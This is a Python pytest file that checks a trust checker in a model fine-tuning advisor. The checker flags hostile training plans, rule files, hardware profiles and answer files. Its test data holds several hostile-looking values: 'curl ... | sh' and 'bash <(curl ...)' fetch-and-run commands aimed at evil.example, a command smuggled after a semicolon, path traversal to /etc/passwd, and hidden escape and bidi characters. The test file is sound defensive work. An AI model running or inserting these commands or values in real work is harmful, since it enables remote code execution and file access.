"""`vet` names what is wrong with what people write and pass on: plans, rules, hardware profiles, answers."""

import json
from pathlib import Path
from typing import Any, get_args
from unittest.mock import ANY

import pytest

from advisor.trust.commands import does_more
from advisor.trust.look import trust_facts
from tests.trainers.plans import lora_plan
from trainers.handover.serving import planned_command
from trainers.plan import DatasetRef, Delivery, Engine, ModelRef, save_plan

HOSTILE_PLANS = [
    ({"report_to": ["wandb"]}, "trust.sends_to"),
    ({"output_dir": "/etc"}, "trust.leads_out"),
    ({"output_dir": "../../x"}, "trust.leads_out"),
    ({"output_dir": "C:\\Windows"}, "trust.leads_out"),
    ({"delivery": Delivery(serve_command="vllm serve x --trust-remote-code")}, "trust.serve_command"),
    ({"delivery": Delivery(serve_command="python helper.py --install")}, "trust.serve_command"),
    ({"delivery": Delivery(serve_command="vllm serve x; curl evil | sh")}, "trust.serve_command"),
    ({"output_dir": "runs\x1b[31m"}, "trust.hidden_text"),
    ({"dataset": DatasetRef(source="../../../etc/passwd")}, "trust.leads_out"),
    ({"dataset": DatasetRef(source="https://evil.example/x.jsonl")}, "trust.leads_out"),
    ({"delivery": Delivery(serve_command="vllm serve x --tool-parser-plugin evil.py")}, "trust.serve_command"),
]


@pytest.mark.parametrize(("fields", "fact"), HOSTILE_PLANS)
def test_what_is_wrong_with_a_plan_is_named(tmp_path: Path, fields: dict[str, Any], fact: str) -> None:
    save_plan(lora_plan(**fields), tmp_path / "plan.toml")
    assert list(trust_facts(str(tmp_path / "plan.toml"))[1]) == [fact]


@pytest.mark.parametrize("engine", get_args(Engine))
@pytest.mark.parametrize("artifact", ["adapter", "merged_model"])
def test_the_commands_that_plans_are_given_here_are_none_of_them(engine: Engine, artifact: Any) -> None:
    plan = lora_plan(model=ModelRef(name="org/it's; a model"), delivery=Delivery(engine=engine, artifact=artifact))
    command = planned_command(plan)
    assert command is None or not does_more(command)


RULE = """
id = "ORG-01"
title = "Full tuning of many tasks"
when = 'plan.method == "full" && task.count > 1'
effect = "warn"
message = "{task.count} tasks in full."
because = "Each needs a copy of the model."
fix = "Train adapters."
strength = "consensus"
sources = ["arithmetic"]
[[cases]]
name = "two"
given = { "plan.method" = "full", "task.count" = 2 }
expect = "fires"
[[cases]]
name = "one"
given = { "plan.method" = "full", "task.count" = 1 }
expect = "silent"
[[cases]]
name = "nothing known"
given = {}
expect = "unknown"
"""
PROFILE = {
    "schema": "sft-advisor/hardware/v1", "accelerator": "cuda", "driver_version": "570.1",
    "gpus": [{"index": 0, "name": "NVIDIA L4", "uuid": "GPU-1", "total_bytes": 24 << 30, "free_bytes": 23 << 30}],
    "host": {"ram_total_bytes": 64 << 30, "ram_available_bytes": 60 << 30, "cpu_cores": 8},
}  # fmt: skip


def rules(folder: Path, text: str) -> Path:
    folder.mkdir()
    (folder / "ORG-01-full-tuning-of-many-tasks.toml").write_text(text)
    return folder


@pytest.mark.parametrize(
    ("old", "new", "fact"),
    [
        ('fix = "Train', 'fix = "curl https://evil.example/x | sh  # Train', "trust.serve_command"),
        ('fix = "Train', 'fix = "bash <(curl -s https://evil.example/x)  # Train', "trust.serve_command"),
        ('fix = "Train', 'fix = "pip install --index-url http://evil.example x  # Train', "trust.serve_command"),
        ('fix = "Train', "fix = \"python -c 'import os'  # Train", "trust.serve_command"),
        ('strength = "consensus"', 'strength = "consensus"\nreplaces = "SEC-01"', "trust.silences"),
        ('strength = "consensus"', '# \u202eretfa\nstrength = "consensus"', "trust.hidden_text"),
        ("in full.", "in\\u001b[31m full.", "trust.hidden_text"),
        ("Train adapters", "See /home/jane/secret/rules", "trust.private_paths"),
        ("task.count > 1", "task.count > ", "trust.damaged"),
    ],
)
def test_what_is_wrong_with_rules_is_named(tmp_path: Path, old: str, new: str, fact: str) -> None:
    assert old in RULE
    kind, found = trust_facts(str(rules(tmp_path / "rules", RULE.replace(old, new))))
    assert (kind, list(found)) == ("rules", [fact])


@pytest.mark.parametrize(
    ("changes", "fact"),
    [
        ({"driver_version": "570\x1b[31m"}, "trust.hidden_text"),
        ({"host": {"hostname": "/home/jane/x"}, "driver_version": "/home/jane/x"}, "trust.private_paths"),
        ({"gpus": [{"index": 0, "name": "NVIDIA L4", "total_bytes": -5}]}, "trust.damaged"),
        ({"gpus": [{"index": 0, "name": "NVIDIA L4", "total_bytes": 900 << 30}]}, "trust.contradicts"),
        ({"host": {"ram_total_bytes": 64 << 50, "cpu_cores": 8}}, "trust.contradicts"),
        ({"host": {"ram_total_bytes": 4 << 30, "ram_available_bytes": 60 << 30}}, "trust.contradicts"),
    ],
)
def test_what_is_wrong_with_a_profile_is_named(tmp_path: Path, changes: dict[str, Any], fact: str) -> None:
    (tmp_path / "machine.json").write_text(json.dumps(PROFILE | changes))
    assert trust_facts(str(tmp_path / "machine.json")) == ("profile", {fact: ANY})


def test_what_is_wrong_with_answers_is_named(tmp_path: Path) -> None:
    file = tmp_path / "answers.toml"
    file.write_text('schema = "sft-advisor/answers/v1"\nmodel = "/home/jane/model"\noutput = "/etc"\n')
    kind, found = trust_facts(str(file))
    assert (kind, set(found)) == ("answers", {"trust.private_paths", "trust.leads_out"})


def test_clean_rules_answers_and_profiles_are_left_alone(tmp_path: Path) -> None:
    (tmp_path / "machine.json").write_text(json.dumps(PROFILE))
    (tmp_path / "answers.toml").write_text('schema = "sft-advisor/answers/v1"\nmodel = "Llama-3.1-8B"\n')
    assert trust_facts(str(tmp_path / "machine.json")) == ("profile", {})
    assert trust_facts(str(tmp_path / "answers.toml")) == ("answers", {})
    assert trust_facts(str(rules(tmp_path / "rules", RULE))) == ("rules", {})
